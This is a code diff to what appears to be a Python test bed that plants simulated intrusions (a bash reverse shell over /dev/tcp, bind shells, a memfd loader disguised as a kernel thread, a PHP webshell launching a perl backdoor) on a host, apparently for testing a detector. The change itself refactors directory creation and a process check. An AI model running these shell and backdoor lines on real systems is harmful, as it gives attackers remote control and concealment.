@@ -17,7 +17,7 @@ import textwrap
 import time
 from dataclasses import dataclass, field
 
-from .bed import INTERNET, LOCALHOST, Bed, port_free, wait_for
+from .bed import INTERNET, LOCALHOST, Bed, cmdline, make_dirs, port_free, wait_for
 from .packages import BedError, Unavailable
 from .procfacts import read_processes
 
@@ -197,13 +197,7 @@ class Planter:
     def _copy_to_home(self, index: int, source: str, relative: str) -> str:
         account = self.bed.account(index)
         target = os.path.join(account.home, relative)
-        directory = account.home
-        for part in os.path.dirname(relative).split(os.sep):
-            if part:
-                directory = os.path.join(directory, part)
-                if not os.path.isdir(directory):
-                    os.mkdir(directory, 0o755)
-                    os.chown(directory, account.uid, account.uid)
+        make_dirs(os.path.dirname(target), account.uid)
         shutil.copy(source, target)
         os.chown(target, account.uid, account.uid)
         os.chmod(target, 0o755)
@@ -226,11 +220,13 @@ class Planter:
                      ["/bin/bash", "-c", f"exec /bin/bash -i >& /dev/tcp/{INTERNET}/{port} 0>&1"])
 
     def _bind_shell_v4(self) -> None:
-        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11, _listening_on(BIND_SHELL_PORT),
+        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11,
+                     _listening_on(BIND_SHELL_PORT),
                      ["/usr/bin/perl", "-e", perl_listener("0.0.0.0", BIND_SHELL_PORT)])
 
     def _bind_shell_v6(self) -> None:
-        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12, _listening_on(BIND_SHELL_V6_PORT),
+        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12,
+                     _listening_on(BIND_SHELL_V6_PORT),
                      ["/usr/bin/python3", "-c",
                       PYTHON_INERT_LISTENER.format(port=BIND_SHELL_V6_PORT)])
 
@@ -258,12 +254,13 @@ class Planter:
 
     def _memfd(self) -> None:
         # the binary only ever exists in memory: exe is "/memfd:... (deleted)"
+        script = perl_connect(C2_PORTS["memfd"])
         loader = textwrap.dedent(f"""\
             import os
             fd = os.memfd_create("x", 0)
             with open("/usr/bin/perl", "rb") as handle:
                 os.write(fd, handle.read())
-            os.execv(f"/proc/self/fd/{{fd}}", ["[kworker/u8:2]", "-e", {perl_connect(C2_PORTS['memfd'])!r}])
+            os.execv(f"/proc/self/fd/{{fd}}", ["[kworker/u8:2]", "-e", {script!r}])
             """)
         self._attack("memfd", "memfd-executed binary, connected", 16,
                      _connected_to(C2_PORTS["memfd"]), ["/usr/bin/python3", "-c", loader])
@@ -300,20 +297,14 @@ class Planter:
         account = self.bed.account(index)
         relative = "wp-content/uploads/2024/11/cache.php"
         page = WEBSHELL.format(script=php_string(perl_connect(C2_PORTS["webshell"])))
-        path = os.path.join(account.docroot, relative)
-        directory = account.docroot
-        for part in os.path.dirname(relative).split("/"):
-            directory = os.path.join(directory, part)
-            os.makedirs(directory, exist_ok=True)
-            os.chown(directory, account.uid, account.uid)
-        self.bed.write(path, page, owner=account.uid)
+        self.bed.write(os.path.join(account.docroot, relative), page, owner=account.uid)
         answer = self.bed.get(account, "/" + relative)
         if answer.strip() != "ok":
             raise BedError(f"the webshell did not run: {answer[:200]!r}")
         planted = self._attack("webshell_backdoor", "perl backdoor started by a PHP webshell",
                                index, _connected_to(C2_PORTS["webshell"]))
-        parent = read_processes([planted.pids[0]])[planted.pids[0]].ppid
-        if "php-fpm: pool" not in read_processes([parent]).get(parent, _NO_FACT).cmdline:
+        parent = read_processes(planted.pids)[planted.pids[0]].ppid
+        if not cmdline(parent).startswith("php-fpm: pool "):
             raise BedError("the webshell's backdoor is not a child of a php-fpm worker")
 
     # ---------------------------------------------------------------- customer apps
@@ -332,13 +323,6 @@ class Planter:
             planted = self._await(Planted(name, title, account.name), account.uid,
                                   _listening_on(port), started)
             self.customer_apps.append(planted)
-
-
-class _NoFact:
-    cmdline = ""
-
-
-_NO_FACT = _NoFact()
 
 
 def php_string(text: str) -> str:
